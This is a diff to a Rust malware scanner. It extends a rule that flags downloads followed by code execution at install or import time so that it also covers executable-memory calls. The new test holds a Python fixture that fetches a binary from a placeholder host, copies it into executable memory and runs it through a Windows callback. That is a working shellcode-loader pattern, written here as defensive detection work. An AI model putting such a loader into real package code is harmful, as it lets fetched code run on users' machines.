@@ -112,7 +112,7 @@ pub const COMBINATIONS: &[Combination] = &[
     },
     Combination {
         id: "combo:download-and-run",
-        description: "a download and a process or exec call in code that runs at install or import time",
+        description: "a download and a process, exec or executable-memory call in code that runs at install or import time",
         weight: 0.45,
     },
     Combination {
@@ -271,8 +271,10 @@ fn combination_evidence<'f>(
                 // A query of the project's own repository (`git describe`) or a tool's version
                 // (`hipcc --version`, also through a `run(command)` helper every one of whose
                 // calls asks only that) starts nothing fetched.
+                // Executable memory filled while loading is where fetched shellcode runs.
                 early(f)
                     && (f.rule == "WH110" && !f.has_tag("exec-file") && !f.has_tag("exec-constant")
+                        || f.rule == "WH230"
                         || f.rule == "WH120"
                             && !f.has_tag("vcs-query")
                             && !f.has_tag("tool-probe")
@@ -864,6 +866,14 @@ mod tests {
         );
         let live = code.replace('#', "");
         assert!(score("x-1/setup.py", &live).malware >= MALICIOUS_THRESHOLD);
+    }
+
+    #[test]
+    fn shellcode_fetched_into_executable_memory_while_loading_is_run() {
+        let code = "import ctypes, urllib.request\nbuf = urllib.request.urlopen('https://x.example.invalid/t.bin').read()\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(0, len(buf), 0x3000, 0x40)\nctypes.memmove(p, buf, len(buf))\nk.EnumSystemLocalesA(p, 0)\n";
+        let s = score("x-1/x/__init__.py", code);
+        assert!(has(&s, "combo:download-and-run"), "{s:?}");
+        assert!(s.malware >= MALICIOUS_THRESHOLD, "{s:?}");
     }
 
     #[test]
